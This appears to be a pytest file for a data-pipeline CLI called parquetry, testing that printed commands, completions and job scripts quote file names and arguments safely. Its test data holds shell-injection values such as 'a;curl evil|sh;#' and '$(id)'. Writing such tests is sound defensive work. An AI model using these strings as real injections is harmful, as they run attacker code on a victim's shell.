"""A command that is printed is what a shell takes it for, whatever names and places it holds."""

from __future__ import annotations

import ast
import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from click.shell_completion import ShellComplete
from click.testing import CliRunner

import parquetry
from parquetry.cli.main import command_line
from parquetry.cli.terminal.typed_options import TypedOptions
from parquetry.in_python import in_python
from parquetry.message import Message, command, run
from parquetry.text import shell
from tests.support.project_folder import ORDERS, ProjectFolder

HOSTILE = (
    "tables/a;curl evil|sh;#",
    "a b",
    "$(id)",
    "`id`",
    "it's",
    'say "x"',
    "a\nb",
    "a\x1b[31mb\r",
    "-rf",
    "--output=x",
    "~/x",
    "*",
    "##[error]x",
    "::error::x",
    "a\\b\\",
    "a\u202eb",
    "é\u0085",
    "$'x'",
    "!x",
    "{a,b}",
    "",
)
ROOT = Path(parquetry.__file__).parents[1]


def typed(line):
    """The words that bash makes of a line."""
    done = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {line}"],
        capture_output=True,
        check=True,
        env=os.environ | {"LC_ALL": "C.UTF-8"},
    )
    return [word.decode() for word in done.stdout.split(b"\0")[:-1]]


@pytest.mark.parametrize("word", HOSTILE)
def test_a_shell_reads_the_words_that_were_meant(word):
    for line in (shell.line("git", word, "x"), shell.named("git", word, "x")[1:-1]):
        assert typed(line) == ["git", word, "x"]
        assert line.isprintable()
        assert "##[" not in line
    assert "`" not in shell.named("git", word)[1:-1]
    if word.isprintable():
        assert shlex.split(shell.line("git", word, "x")) == ["git", word, "x"]


def test_a_byte_of_a_file_name_that_is_no_text_is_typed_as_it_is():
    name = os.fsdecode(b"a\xffb\x80")
    done = subprocess.run(["bash", "-c", f"printf %s {shell.line(name)}"], capture_output=True, check=True)
    assert done.stdout == b"a\xffb\x80"


@pytest.mark.parametrize("word", HOSTILE)
def test_what_was_typed_is_carried_as_one_word(word):
    typed_options = TypedOptions(directory=Path("/x", word), select=(word,), variables=(("v", word),))
    options = ["--project", str(Path("/x", word)), "--select", word, "--var", f"v={word}"]
    assert typed(typed_options.into("parquetry", "run")) == ["parquetry", "run", *options]
    (span,) = re.findall(
        "`([^`]*)`", typed_options.with_options(Message("{command} again", command=run("run")))
    )
    assert typed(span) == ["parquetry", "run", *options]
    (line,) = typed_options.recipe((shell.line("parquetry", "inspect", word),))
    assert typed(line) == ["parquetry", "inspect", word, "--var", f"v={word}"]


@pytest.mark.parametrize("text", ["a reason: `parquetry apply '` and more", "no table `parquetry run`"])
def test_a_text_that_looks_like_a_command_gets_nothing_appended(text):
    assert TypedOptions(target="x; id").with_options(text) == text


def git(root, *arguments):
    who = ["-c", "user.name=a", "-c", "user.email=a@b"]
    subprocess.run(["git", "-C", str(root), *who, *arguments], check=True, capture_output=True)


@pytest.mark.parametrize("name", ["a;curl evil|sh;#", "-rf", "$(id)", "x `id`", "*", "say 'a' \"b\""])
def test_a_recipe_is_typed_safely_whatever_the_folder_is_called(tmp_path, monkeypatch, name):
    folder = ProjectFolder.create(tmp_path / name)
    below = folder.root / "tables" / name
    below.mkdir()
    (folder.root / "tables/orders.yml").rename(below / "orders.yml")
    git(folder.root, "init", "-q")
    git(folder.root, "add", "-A")
    git(folder.root, "commit", "-q", "-m", "one")
    monkeypatch.chdir(tmp_path)
    project = ["--project", f"./{name}"]
    runner = CliRunner()
    assert runner.invoke(command_line, ["apply", "--auto-approve", *project]).exit_code == 0
    folder.write(f"tables/{name}/orders.yml", ORDERS | {"partition_by": ["items"]})
    file, copied = f"tables/{name}/orders.yml", f"tables/{name}/orders_v2.yml"
    runner.invoke(command_line, ["plan", *project, "--out", "plan.json"])
    for shape in ("text", "markdown"):
        said = runner.invoke(command_line, ["show", "plan.json", "--format", shape]).output
        lines = [line.strip().removeprefix("$ ") for line in said.splitlines()]
        commands = [shlex.split(line) for line in lines if re.match(r"(cd|mv|rm|parquetry history) ", line)]
        assert ["mv", file, copied] in commands, said
        (written,) = [words for words in commands if words[0] == "parquetry"]
        assert written[1:6] == ["history", "orders", "--record", "1", "--out"], shape
        assert ["mv", written[6], file] in commands, said
    monkeypatch.chdir(folder.root)
    assert runner.invoke(command_line, written[1:]).exit_code == 0
    assert "partition_by: [city]\n" in Path(written[6]).read_text()


def test_remedies_that_name_what_was_given_are_quoted(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    file = "not a plan;id"
    Path(file).write_text("{}")
    ProjectFolder.create(tmp_path / "shop")
    answer = CliRunner().invoke(command_line, ["apply", file, "--project", "shop"])
    said = " ".join(answer.output.split())
    (named,) = re.findall("`(parquetry plan [^`]*)`", said)
    assert shlex.split(named) == ["parquetry", "plan", "--out", file, "--project", "shop"]
    answer = CliRunner().invoke(command_line, ["init", "new;id"])
    (line,) = [line for line in answer.output.splitlines() if line.startswith("Next: ")]
    assert shlex.split(line)[:3] == ["Next:", "cd", "new;id"]


def test_python_is_told_calls_with_the_word_as_a_literal():
    for time, call in (("2026", "'2026'"), ("20 26;id", "'20 26;id'"), ("it's", '"it\'s"')):
        named = command("service", "rollback", "TABLE", time)
        assert (
            in_python(Message("roll it back with {named}", named=named))
            == f"roll it back with Table.rollback({call})"
        )


def test_nothing_is_completed_that_a_shell_takes_for_more_than_a_word(tmp_path, monkeypatch):
    """A shell puts what is offered into the line as it is."""
    monkeypatch.chdir(tmp_path)
    for name in ("a;curl evil|sh;#", "plain", "b c", "$(id)"):
        below = tmp_path / "tables" / name
        below.mkdir(parents=True)
        (below / "x.yml").write_text(json.dumps({"name": f"x{name}", "tags": [f"t{name}\nplain,y"]}))
    (tmp_path / "parquetry.yml").write_text(
        json.dumps({"name": "p", "vars": {"v`id`": 1, "w": 2}, "targets": {"t;id": {}, "dev": {}}})
    )
    click_shell = ShellComplete(command_line, {}, "parquetry", "_PARQUETRY_COMPLETE")
    offered = [
        item.value
        for words in (["plan", "--select"], ["plan", "--target"], ["plan", "--var"], ["inspect"])
        for item in click_shell.get_completions(words, "")
    ]
    assert {"path:tables/plain", "xplain", "dev", "w="} <= set(offered)
    assert [word for word in offered if shlex.split(word) != [word] or set(word) & set(";|$`()\n ")] == []


def test_a_job_script_names_its_command_and_holds_no_unseen_characters(tmp_path):
    folder = ProjectFolder.create(tmp_path)
    (source,) = ORDERS["sources"]
    folder.orders(description="a\tb", sources=[source | {"options": {"sep": "\x01", "nullValue": 'y"""\\'}}])
    assert CliRunner().invoke(command_line, ["compile", "-p", str(tmp_path)]).exit_code == 0
    for script in tmp_path.glob("target/jobs/*/*.py"):
        text = script.read_text()
        assert all(line.isprintable() for line in text.splitlines())
        (named,) = re.findall("`(spark-submit [^`]*)`", text)
        assert shlex.split(named)[-1] == script.name


_PROGRAM = r"(?:git (?:-\S+ )*[a-z-]+|rm|cp|cd|export|spark-submit|parquetry [a-z]+|pip install)"
_BY_HAND = re.compile(rf"`{_PROGRAM} [^`]*\0|^{_PROGRAM} (?:-\S+ )*\0")


def _written(node):
    """The text of an f-string with a NUL for each value."""
    return "".join(part.value if isinstance(part, ast.Constant) else "\0" for part in node.values)


def test_no_command_is_put_together_by_hand():
    """Values reach a command through parquetry.text.shell alone."""
    found = []
    for room in ("parquetry", "compiler", "project", "runtime"):
        for file in sorted((ROOT / room).rglob("*.py")):
            found += [
                f"{file.relative_to(ROOT)}:{node.lineno}: {_written(node)!r}"
                for node in ast.walk(ast.parse(file.read_text("utf-8")))
                if isinstance(node, ast.JoinedStr) and _BY_HAND.search(_written(node))
            ]
    assert found == []


def _of_docstrings(tree):
    """The ids of the nodes that are docstrings, or texts that stand for themselves."""
    return {id(node.value) for node in ast.walk(tree) if isinstance(node, ast.Expr)}


def test_commands_in_messages_are_parts_of_them():
    """What looks like a command within a text is never completed: it has to be a part."""
    found = []
    for room in ("parquetry", "compiler", "project", "runtime"):
        for file in sorted((ROOT / room).rglob("*.py")):
            tree = ast.parse(file.read_text("utf-8"))
            docs = _of_docstrings(tree)
            found += [
                f"{file.relative_to(ROOT)}:{node.lineno}: {node.value!r}"
                for node in ast.walk(tree)
                if isinstance(node, ast.Constant)
                and isinstance(node.value, str)
                and id(node) not in docs
                and "`parquetry " in node.value
            ]
    assert found == []


def test_a_text_is_printed_in_few_places():
    """Each of them escapes what it prints; another one would have to."""
    calls = re.compile(
        r"\bclick\.(?:echo|secho|confirm|prompt)\(|(?<![\w.])print\(|\bsys\.std(?:out|err)\.write\("
    )
    cli = Path("parquetry/cli")
    expected = {
        *(cli / "terminal" / f"{name}.py" for name in ("output", "messages")),
        *(cli / "requests" / f"{name}.py" for name in ("prompt", "approval")),
        *(cli / f"views/{name}.py" for name in ("diff", "pages/printing", "plan/printing", "tests/printing")),
        *(cli / f"{name}.py" for name in ("failures", "commands/authoring/validate")),
        Path("runtime/main.py"),
        Path("compiler/lineage/emission.py"),  # JSON in ASCII
    }
    found = {
        file.relative_to(ROOT)
        for room in ("parquetry", "compiler", "project", "runtime")
        for file in (ROOT / room).rglob("*.py")
        if calls.search(file.read_text("utf-8"))
    }
    assert found == expected
